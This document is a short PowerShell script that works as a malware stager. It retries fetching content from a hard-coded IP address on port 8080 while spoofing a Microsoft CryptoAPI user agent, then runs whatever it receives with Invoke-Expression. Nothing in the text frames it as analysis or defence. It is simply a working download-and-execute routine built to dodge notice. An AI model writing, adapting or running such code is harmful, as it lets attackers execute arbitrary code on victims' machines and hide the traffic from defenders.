function Get-Stage {
    param([string]$Uri)
    $attempt = 0
    while ($attempt -lt 5) {
        try {
            return Invoke-RestMethod -Uri $Uri -UserAgent 'Microsoft-CryptoAPI/10.0' -TimeoutSec 15
        }
        catch {
            Start-Sleep -Seconds (30 * ($attempt + 1))
            $attempt++
        }
    }
}

$payload = Get-Stage -Uri 'http://185.220.101.47:8080/upd'
if ($payload) {
    Invoke-Expression -Command $payload
}
